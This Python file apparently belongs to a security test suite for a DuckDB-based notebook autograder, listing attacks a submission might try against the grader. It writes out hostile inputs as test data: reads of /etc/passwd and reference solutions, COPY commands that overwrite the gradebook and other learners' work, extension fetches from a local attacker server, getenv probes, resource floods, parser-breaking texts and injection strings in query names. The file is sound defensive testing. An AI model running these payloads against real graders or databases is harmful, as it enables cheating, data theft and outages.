"""Attacks by SQL: files, settings, extensions, other tables, floods, and texts that break parsers."""

from __future__ import annotations

import json

from attackers.attack import attack, code, notebook

ANSWERS = ("delivered_orders", "top_sellers", "top_by_revenue")


def queries(*texts: str) -> list[str]:
    """%%sql cells for the three answers of top_sellers; the last text serves for the rest."""
    texts = (*texts, *[texts[-1]] * (len(ANSWERS) - len(texts)))
    return [f"%%sql {name}\n{code(text)}" for name, text in zip(ANSWERS, texts, strict=True)]


def at(place: str, *texts: str):
    """The same, for texts that name a path: a text in SQL cannot use the attacker's variables."""

    def write(path, scene):
        known = {"SOLUTIONS": f"{scene.checkout}/solutions/top_sellers", "HOME": str(scene.home),
                 "COURSE": str(scene.course), "PORT": str(scene.port),
                 "ELSEWHERE": str(scene.elsewhere)}  # fmt: skip
        cells = queries(*texts)
        for name, value in known.items():
            cells = [cell.replace(f"@{name}", value) for cell in cells]
        return notebook(*cells)

    write.__name__ = place
    return write


def _register(name: str, reason: str, *texts: str, **more):
    write = at(name, *texts)
    write.__doc__, write.__module__ = reason, __name__
    return attack(on="top_sellers", file=True, **more)(write)


_register(
    "files_by_reader_functions",
    """DuckDB reads files by functions: /etc/passwd, the solution's text, a folder's listing; its own
    documents say to treat SQL like a shell (field.md §1d, Securing DuckDB).""",
    "SELECT * FROM read_csv('/etc/passwd', header = false, sep = ':')",
    "SELECT content FROM read_text('@SOLUTIONS/*/solution.sql')",
    "SELECT file FROM glob('@COURSE/**')",
)
_register(
    "files_by_name",
    """A file's name in quotes is a table: FROM 'path', also with an alias, a join, a scheme, and
    where a query only mentions it in a subquery that is never run.""",
    "FROM '@SOLUTIONS/delivered_orders/solution.sql'",
    "SELECT * FROM '@HOME/notes.csv' AS t JOIN 'file:///etc/passwd' USING (x)",
    "SELECT (SELECT count(*) FROM '@HOME/*.parquet') AS units FROM orders WHERE false",
)
_register(
    "databases_attached",
    """ATTACH opens the gradebook as SQLite, or another DuckDB file, also read-only, also a new one
    that is then on the disk.""",
    "ATTACH '@COURSE/gradebook.db' AS book (TYPE sqlite, READ_ONLY); SELECT * FROM book.grade",
    "ATTACH '@ELSEWHERE/new.duckdb' AS new",
    "SELECT * FROM sqlite_scan('@COURSE/gradebook.db', 'grade')",
)
_register(
    "tables_copied_out",
    """COPY writes files, also over others' work, and EXPORT DATABASE whole folders: alone, after a
    query, and inside of one.""",
    "COPY (SELECT * FROM orders) TO '@HOME/stolen.csv'",
    "SELECT 1 AS units; COPY orders TO '@COURSE/gradebook.db' (FORMAT csv)",
    "EXPORT DATABASE '@ELSEWHERE/export'",
)
_register(
    "extensions_installed",
    """An extension is native code that is fetched and run: httpfs, shell commands, a file of one's own
    as an extension; and addresses, which load one by themselves.""",
    "INSTALL httpfs; LOAD httpfs; SELECT * FROM 'http://127.0.0.1:@PORT/stolen.csv'",
    "LOAD '@HOME/evil.duckdb_extension'",
    "SELECT * FROM read_csv('http://127.0.0.1:@PORT/stolen.csv')",
)
_register(
    "writing_inside_a_query",
    """`WITH x AS (INSERT ... RETURNING ...) SELECT` is typed SELECT and writes: it would change the
    tables of the cases for every later answer, or keep notes from case to case.""",
    "WITH x AS (INSERT INTO orders VALUES (1, NULL) RETURNING *) SELECT * FROM x",
    "WITH x AS (DELETE FROM order_items RETURNING *) SELECT * FROM x",
    "WITH x AS (UPDATE products SET category = 'mine' RETURNING *) SELECT * FROM x",
)
_register(
    "settings_changed",
    """SET and PRAGMA take the limits off, or change how all later queries behave: time zone,
    threads, memory, temp files; set_config and a view over a table do it inside a query.""",
    "SET enable_external_access = true; SELECT 1 AS order_id",
    "PRAGMA memory_limit='100GB'",
    "SELECT set_config('memory_limit', '100GB', false) AS units",
)
_register(
    "functions_that_do_things",
    """Table functions with effects: enable_logging writes a log for all later queries, query() runs
    any SQL from a text, pandas_scan follows a pointer, getenv reads the environment.""",
    "SELECT * FROM enable_logging(storage = 'file', storage_path = '@ELSEWHERE/log')",
    "SELECT * FROM query('COPY orders TO ''@HOME/stolen.csv''')",
    "SELECT * FROM pandas_scan(140737488355328, 140737488355328, 140737488355328)",
)
_register(
    "environment_by_getenv",
    """getenv exists in DuckDB's shell; current_setting, duckdb_settings, duckdb_secrets and
    pragma functions tell about the machine and its paths in any case.""",
    "SELECT getenv('WORKBOOK_ATTACK_CANARY') AS order_id, getenv('HOME') AS order_date",
    "SELECT name, value FROM duckdb_settings() UNION ALL SELECT name, secret_string FROM duckdb_secrets()",
    "SELECT current_setting('home_directory') AS units",
    leaks="canary-in-the-environment",
)
_register(
    "variables_of_python",
    """DuckDB finds DataFrames by the names of Python variables in the callers' frames: inputs, cases,
    whatever a worker holds (field.md §1d: replacement scans).""",
    "SELECT * FROM expected",
    "SELECT * FROM inputs",
    "SELECT * FROM reference",
)
_register(
    "other_cases_read",
    """The tables of all cases stand in one database: name another case's schema, list what there is,
    and find out from the neighbours' rows which case this is.""",
    "SELECT * FROM case_1.orders UNION ALL SELECT * FROM case_2.orders",
    "SELECT table_schema, table_name FROM information_schema.tables",
    "SELECT schema_name, table_name FROM duckdb_tables()",
)
_register(
    "values_without_an_end",
    """One value as large as memory: repeat of a text, a list of a billion numbers, a string_agg over
    a cross join, a decimal to a great power.""",
    "SELECT repeat('x', 100000000000) AS order_id",
    "SELECT list_sum(range(10000000000)) AS units",
    "SELECT string_agg(repeat('x', 100000000), '') AS units FROM range(1000)",
)
_register(
    "rows_without_an_end",
    """A range of a trillion, a recursion without a condition, a cross join of everything with itself
    seven times: the limit on rows is reached, or the limit on time.""",
    "SELECT r AS order_id, NULL AS order_date FROM range(1000000000000) AS t(r)",
    "WITH RECURSIVE t(units) AS (SELECT 1 UNION ALL SELECT units + 1 FROM t) SELECT max(units) FROM t",
    """SELECT count(*) AS units FROM range(1000000) AS a, range(1000000) AS b, range(1000000) AS c
    WHERE a.range * b.range % 7 = c.range""",
    slow=True,
)
_register(
    "batch_escaped",
    """Several cases run as one query, the answer's text put inside it: close the bracket it stands in,
    comment out what follows, read the number of the case, define what the frame around it names.""",
    "SELECT 1 AS order_id, DATE '2020-01-01' AS order_date) AS _y) AS _x --",
    "SELECT _n._case AS units FROM orders",
    "SELECT 1 AS units /* never closed",
)


@attack(on="top_sellers")
def parsers_overflown():
    """Texts on which parsers break that run outside of the sandbox: a hundred thousand brackets, a
    chain of operators as long, a hundred thousand UNIONs."""
    return queries(
        "SELECT " + "(" * 100_000 + "1" + ")" * 100_000 + " AS order_id",
        "SELECT 1" + " + 1" * 200_000 + " AS units",
        " UNION ALL ".join(["SELECT 1 AS units"] * 50_000),
    )


@attack(on="top_sellers")
def comments_that_never_close():
    """A million openings of a comment and no end: a regular expression that looks for the end from
    each of them is quadratic, and it runs where notebooks are read, in the trusted process."""
    return queries("/*" * 1_000_000 + " SELECT 1")


@attack(on="top_sellers")
def own_connection():
    """A Python answer may open a DuckDB connection of its own, in which no setting is locked: read
    the solutions, and run what they say on the case's own tables."""
    return """
        import duckdb

        def stolen(name, tables):
            connection = duckdb.connect(config={"python_scan_all_frames": True})
            for table, frame in tables.items():
                connection.register(table, frame)
            for place in (WORKBOOK, CHECKOUT):
                try:
                    path = f"{place}/solutions/top_sellers/{name}/solution.sql"
                    text = connection.sql(f"SELECT content FROM read_text('{path}')").fetchone()[0]
                    return connection.sql(text).df()
                except Exception:
                    continue
            return duckdb.sql("SELECT 'nothing' AS nothing").df()

        def delivered_orders(orders, deliveries, params):
            return stolen("delivered_orders", locals())

        def top_sellers(products, orders, order_items, deliveries, params):
            return stolen("top_sellers", locals())

        def top_by_revenue(products, orders, order_items, deliveries, params):
            return stolen("top_by_revenue", locals())
    """


@attack(on="top_sellers", slow=True)
def connection_that_writes():
    """The same connection writes: COPY over the gradebook and a neighbour's notebook, a database file
    in every folder, an extension fetched from the attacker's server."""
    return """
        import duckdb

        def write(*tables):
            connection = duckdb.connect()
            for text in (
                f"COPY (SELECT 99 AS score) TO '{COURSE}/gradebook.db' (FORMAT csv)",
                f"COPY (SELECT 99 AS x) TO '{COURSE}/submitted/{HONEST}/{SET}/top_sellers.ipynb'",
                f"COPY (SELECT 99 AS x) TO '{HOME}/stolen.csv'",
                f"ATTACH '{ELSEWHERE}/left.duckdb' AS left_behind",
                f"SET custom_extension_repository = 'http://127.0.0.1:{PORT}'; INSTALL httpfs",
                "SET memory_limit = '100GB'; SET threads = 64",
            ):
                try:
                    connection.execute(text)
                except Exception:
                    continue
            return "written"

        def delivered_orders(orders, deliveries, params):
            return write()
    """


@attack(on="top_sellers")
def names_of_queries():
    """The name behind %%sql is the learner's text: quotes, line ends and SQL in it would be put into
    a view's name, a path, a message."""
    names = ['x"; DROP TABLE orders; --', "../../../etc/passwd", "top_sellers'; --", "delivered_orders\t",
             "<script>", json.dumps("top_sellers"), "break_it", "top_sellers --help"]  # fmt: skip
    return [f"%%sql {name}\nSELECT 1 AS units" for name in names]
